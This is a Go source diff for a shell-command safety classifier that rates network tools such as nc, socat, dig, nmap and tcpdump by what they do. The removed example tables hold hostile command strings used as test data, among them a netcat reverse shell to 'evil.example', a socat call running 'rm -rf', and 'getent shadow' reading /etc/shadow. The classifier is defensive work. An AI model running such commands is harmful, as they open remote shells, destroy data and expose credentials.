@@ -11,54 +11,34 @@ const ownLanguage = "its arguments can run commands or write files"
 
 // netCommands are the programs that ask the network and open connections.
 var netCommands = []Command{
-	{
-		Names: "dig drill", Title: "queries the network", Style: NoOptions, ReadsSome: true, KnownWords: true, refine: refineDig,
-		Examples: []Example{
-			{"dig example.com", "ro net:example.com"}, {"dig +short @8.8.8.8 a.b MX", "ro net:@8.8.8.8 net:a.b net:MX"}, {"dig -f .env", "net:.env"},
-			{`dig "$x.a.b"`, "net:?.a.b"}, {"dig $x", "net:? narrow"}, {"dig -k key a.b", "net:key net:a.b"},
-		},
-	},
-	{
-		Names: "host nslookup traceroute tracepath whois", Title: "queries the network", Style: NoOptions, ReadsSome: true, KnownWords: true, refine: refineLookup,
-		Examples: []Example{{"nslookup", ""}, {"whois a.b", "ro net:a.b"}},
-	},
+	{Names: "dig drill", Title: "queries the network", Style: NoOptions, ReadsSome: true, KnownWords: true, refine: refineDig},
+	{Names: "host nslookup traceroute tracepath whois", Title: "queries the network", Style: NoOptions, ReadsSome: true, KnownWords: true, refine: refineLookup},
 	{
 		Names: "getent", Title: "looks up what the system knows, or asks the network", Style: NoOptions, ReadsSome: true, KnownWords: true, refine: refineGetent,
-		Special:  &Special{Credentials: []Credential{{"getent shadow|gshadow", "", ""}}},
-		Examples: []Example{{"getent shadow root", "prints-secret read:/etc/shadow"}, {"getent -s files shadow", "prints-secret read:/etc/shadow"}, {"getent passwd root", "ro"}, {"getent hosts a.b", "ro net:hosts net:a.b"}},
+		Special: &Special{Credentials: []Credential{{"getent shadow|gshadow", "", ""}}},
 	},
-	{
-		Names: "ping ping6 mtr", Title: "asks a machine whether it is there", Style: NoOptions, ReadsSome: true, KnownWords: true, refine: refinePing,
-		Examples: []Example{{"ping -c 1 h", "ro net:h"}, {"ping h", "net:h"}, {"ping -f -c 9 h", "net:h"}},
-	},
+	{Names: "ping ping6 mtr", Title: "asks a machine whether it is there", Style: NoOptions, ReadsSome: true, KnownWords: true, refine: refinePing},
 	{
 		Names: "nc ncat netcat nc.traditional nc.openbsd", Title: "opens connections",
 		Flags:   "-46bCdDFhklnNrStuUvz listen keep-open udp verbose ssl broker chat no-dns recv-only send-only",
 		Values:  "-iIMmOpPqsTVwWX source source-port wait idle-timeout proxy max-conns delay proxy-type proxy-auth",
 		Opts:    []Opt{{"-ec exec sh-exec lua-exec", HasArg, Executes}, {"-o output hex-dump", HasArg, WritesValue}, {"-x", HasArg, Unsafe}},
 		Reading: &Reading{If: "-z", Unless: "-lkUecu listen exec sh-exec lua-exec"}, KnownWords: true, refine: refineConnects,
-		Examples: []Example{{"nc evil.example 4444 -e /bin/sh", "net:evil.example narrow nc -e>>'/bin/sh'"}, {"nc -z localhost 80", "ro net:localhost"}, {"nc -z -w3 h 1-99", "ro net:h"}, {"nc -lp 80", ""}, {"nc h 80", "net:h"}, {"nc -zo .envrc h 80", "net:h write:.envrc narrow"}, {"nc -zl 80", "net:80"}, {"nc -zec id h 1", "net:id narrow nc -e>>'c'"}},
 	},
-	{
-		Names: "socat", Title: "connects two channels", Style: NoOptions, Narrows: ownLanguage, refine: refineSocat,
-		Examples: []Example{{"socat - TCP:h:80", "narrow"}, {"socat - EXEC:'rm -rf x'", "narrow socat>>'rm -rf x'"}, {"socat - SYSTEM:id,pty", "narrow socat>>'id'"}},
-	},
+	{Names: "socat", Title: "connects two channels", Style: NoOptions, Narrows: ownLanguage, refine: refineSocat},
 	{
 		Names: "lftp ftp tftp telnet", Title: "talks to another machine", Operands: URLs, Narrows: ownLanguage,
-		Special:  &Special{Losses: []Loss{{Of: OfStorage, Names: "lftp", Values: "-euc", Verbs: []string{" ~mirror ~--delete", " ~rm"}}}},
-		Examples: []Example{{"ftp x", "net:x narrow"}},
+		Special: &Special{Losses: []Loss{{Of: OfStorage, Names: "lftp", Values: "-euc", Verbs: []string{" ~mirror ~--delete", " ~rm"}}}},
 	},
 	{
 		Names: "nmap", Title: "scans networks", Flags: "-vdnRAFO46h open traceroute reason",
 		Values:   "-pTegDSM max-retries host-timeout min-rate max-rate exclude top-ports",
 		Opts:     []Opt{{"script script-args script-args-file datadir servicedb", HasArg, Unsafe}, {"-o resume stylesheet", HasArg, Unsafe}, {"-i excludefile", HasArg, Unsafe}},
 		Operands: URLs,
-		Examples: []Example{{"nmap -p 80 h", "net:h"}, {"nmap --script ./x h", "narrow net:h"}, {"nmap -oN f h", "narrow net:f net:h"}},
 	},
 	{
 		Names: "tcpdump", Title: "records network traffic", Flags: "-nvXxAeqtSlLDpKNU#", Values: "-icsCGWBjMTyEfYd",
-		Opts:     []Opt{{"-z postrotate-command", HasArg, Executes}, {"-w", HasArg, WritesValue}, {"-rVF", HasArg, ReadsValue}, {"-Z relinquish-privileges", HasArg, Unsafe}},
-		Examples: []Example{{"tcpdump -i any port 80", ""}, {"tcpdump -z ./x -w f", "narrow write:f tcpdump -z>>'./x'"}, {"tcpdump -r f", "read:f"}},
+		Opts: []Opt{{"-z postrotate-command", HasArg, Executes}, {"-w", HasArg, WritesValue}, {"-rVF", HasArg, ReadsValue}, {"-Z relinquish-privileges", HasArg, Unsafe}},
 	},
 }
 
